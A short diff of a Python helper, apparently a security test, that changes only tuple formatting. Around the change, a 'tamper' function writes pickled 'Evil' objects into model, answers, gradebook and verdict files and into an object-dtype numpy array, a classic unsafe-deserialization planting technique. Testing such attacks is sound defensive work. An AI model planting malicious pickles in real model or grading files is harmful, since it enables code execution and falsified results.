@@ -18,7 +18,13 @@ class Evil:
 
 def tamper(notebook, folder):
     code = pickle.dumps(Evil())
-    for name in ("model.pkl", "answers.pickle", "gradebook.pkl", "verdict.joblib", "01-pooling.pickle"):
+    for name in (
+        "model.pkl",
+        "answers.pickle",
+        "gradebook.pkl",
+        "verdict.joblib",
+        "01-pooling.pickle",
+    ):
         (folder / name).write_bytes(code)
     np.save(folder / "images.npy", np.array([Evil()], dtype=object), allow_pickle=True)
     with zipfile.ZipFile(folder / "model.keras", "w") as archive:
